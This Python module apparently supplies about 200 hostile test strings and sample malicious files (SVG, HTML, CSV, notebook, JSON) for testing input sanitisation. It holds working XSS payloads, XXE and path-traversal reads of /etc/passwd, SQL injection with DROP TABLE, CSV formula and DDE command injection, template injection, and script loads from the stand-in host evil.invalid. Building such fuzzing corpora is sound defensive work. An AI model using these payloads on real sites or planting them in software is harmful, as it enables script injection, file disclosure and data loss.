"""Texts that are trouble wherever one is taken for something else: 200 of them."""

from __future__ import annotations

import json

ASK = "http://evil.invalid/"
"""What nobody may ask for."""

_TAGS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import('//evil.invalid/x.js')</script>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/x.png>", "<IMG SRC=x ONERROR=alert(1)//", '<img src="x" onerror="alert(1)" style="x">',
    "<img srcset='//evil.invalid/a 1x'>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=//evil.invalid/>", "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<object data=//evil.invalid/x.swf>", "<embed src=javascript:alert(1)>",
    "<applet code=x>", "<base href=//evil.invalid/>", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<style>@import '//evil.invalid/x.css';</style>", "<style>*{background:url(//evil.invalid/)}</style>",
    "<div style='background:url(//evil.invalid/)'>x", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<video poster=//evil.invalid/ autoplay>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<listing>&lt;img onerror=alert(1)&gt;",
    "<x-element onclick=alert(1)>x</x-element>", "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a target=_blank href=//evil.invalid/>x</a>", "<table background=//evil.invalid/>",
    "<dialog open onclose=alert(1)>x", "<portal src=//evil.invalid/>", "<object type=text/html data=x></object>",
)  # fmt: skip
_DRAWN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><image href=//evil.invalid/x.png /></svg>", "<svg><style>@import '//evil.invalid/'</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>", "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<math><annotation-xml encoding=text/html><script>x",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img onerror=alert(1)>",
)  # fmt: skip
_BREAKS = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
    "</pre><img src=x onerror=alert(1)>", "</td></tr></table><img src=x onerror=alert(1)>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', "`onerror=alert(1)`", "-->",
    "--!><img src=x onerror=alert(1)>", "<!--<img src=x onerror=alert(1)>-->", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "</style><script>alert(1)</script>",
    '"};alert(1);//', "';alert(1)//", "\\';alert(1)//", "</svg><script>alert(1)</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "javascript://%0aalert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)/>",
    "vbscript:msgbox(1)", "//evil.invalid/", "http://evil.invalid/", "https:evil.invalid", "\\\\evil.invalid\\share",
    "http://localhost@evil.invalid/", "/?run=../../x", "?compare=all&trials=../x", "#<img src=x onerror=alert(1)>",
    "blob:http://evil.invalid/1", "file:///etc/passwd",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{% raw %}",
    "${7*7}", "[[${7*7}]]", "@(7*7)", "{{= 1 }}", "%{7*7}", "$(touch x)", "`id`", "%s%s%s%n", "{0.__class__}", "%(x)s",
)  # fmt: skip
_NAMES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then",
    "__proto__.polluted", "constructor.prototype.polluted", '{"__proto__": {"polluted": 1}}', "length", "0", "-1",
    "NaN", "null", "undefined", "true", "[object Object]", "innerHTML", "onclick", "document.cookie",
)  # fmt: skip
_UNSEEN = (
    "\u202egnp.exe", "\u2066\u2067abc\u2069", "\u200b\u200c\u200d\ufeff", "a\u0301\u0323" * 20, "\u00ad" * 9,
    "\u2028alert(1)\u2029", "\ud800", "a\udfff\ud800b", "\U000e0041\U000e0042", "\ufffe\uffff", "\u0130\u0131\u017f",
    "\u05d0\u05d1<b>\u05d2", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "e\u20dd" * 8, "\u115f\u3164",
    "Z\u0351\u0352\u0310" * 9,
)  # fmt: skip
_CONTROLS = (
    "\x00", "a\x00b", "\x01\x02\x03\x08", "\r\nSet-Cookie: x=1", "line\rover", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid/\x07click\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x9b31m", "\t\v\f",
    "\x7f\x80\x85",
)  # fmt: skip
_CELLS = ("=1+1", '=HYPERLINK("http://evil.invalid/","x")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1")
_PATHS = (
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "a/../b", "a//b", ".", "..", "~", "CON",
    "a?b#c%2f%00", "%2e%2e%2f", "name with spaces ", " ",
)  # fmt: skip
_LONG = ("<b>" * 2000, "x" * 10_000, "\U0001f600" * 3000, "a " * 4000, "\n" * 500)
_SEARCHED = ("' OR '1'='1", "`x` = `x`", "metrics.`a``b`", "%_[]", "'; DROP TABLE runs; --", "\\", "*", '""', "''")

EVERY = (
    *_TAGS, *_DRAWN, *_BREAKS, *_ADDRESSES, *_TEMPLATES, *_NAMES, *_UNSEEN, *_CONTROLS, *_CELLS, *_PATHS, *_LONG,
    *_SEARCHED,
)  # fmt: skip

FILES = {
    "evil.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    '<image href="http://evil.invalid/x"/></svg>',
    "evil.html": "<script>alert(1)</script><img src=x onerror=alert(2)><img src=//x.invalid/><form action=//x.invalid>",
    "evil.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "evil.md": "\n\n".join(("[x](javascript:alert(1))", "![x](//evil.invalid/x.png)", *_TAGS[:20], *_BREAKS[:8])),
    "evil.json": json.dumps({text: [text] for text in EVERY}),
    "evil.csv": "\n".join(f'"{text}","{text}"' for text in (*_CELLS, *_TAGS[:20])),
    "evil.log": "\n".join((*_CONTROLS, *_TAGS)),
    "evil.diff": "diff --git a/<img src=x onerror=alert(1)> b/x\n--- a\n+++ b\n@@ -1 +1 @@\n-<script>\n+" + _TAGS[0],
    "console.log": "\n".join((*_CONTROLS, *_TAGS, *_ADDRESSES)),
    "evil.ipynb": json.dumps({
        "nbformat": 4, "metadata": {"kernelspec": {"language": _TAGS[0]}}, "cells": [
            {"cell_type": "markdown", "source": list(_TAGS[:20])},
            {"cell_type": "code", "source": _TAGS[0], "outputs": [
                {"output_type": "display_data", "data": {
                    "text/html": "".join(_TAGS[:10]), "image/svg+xml": "<svg onload=alert(1)>",
                    "application/javascript": "alert(1)", "image/png": '"><script>alert(1)</script>',
                }},
                {"output_type": "error", "ename": _TAGS[0], "evalue": _TAGS[4], "traceback": list(_CONTROLS)},
                {"output_type": "stream", "name": _BREAKS[0], "text": list(_BREAKS)},
            ]},
        ],
    }),
    "training_evidence.json": json.dumps({
        "confusion_matrix": {"labels": list(_TAGS[:2]), "counts": [[1, 2], [3, 4]]},
        "roc_curve": [{"class": _TAGS[4], "false_positive_rate": [0, 1], "true_positive_rate": [0, 1], "area": 0.5}],
    }),
    "trials.json": json.dumps({"columns": ["params_<b>", "params___proto__", "value"], "data": [
        [_TAGS[0], text, n] for n, text in enumerate((*_NAMES, *_TAGS))
    ]}),
}  # fmt: skip
"""Files by their names, each with what its kind is known to run."""
